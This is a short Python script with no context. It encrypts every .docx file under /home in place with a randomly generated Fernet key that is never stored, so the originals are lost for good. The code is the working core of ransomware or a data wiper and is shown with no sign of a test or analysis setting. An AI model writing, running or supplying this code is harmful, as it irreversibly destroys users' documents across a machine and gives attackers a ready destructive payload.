from pathlib import Path

from cryptography.fernet import Fernet

cipher = Fernet(Fernet.generate_key())
for path in Path("/home").rglob("*.docx"):
    path.write_bytes(cipher.encrypt(path.read_bytes()))
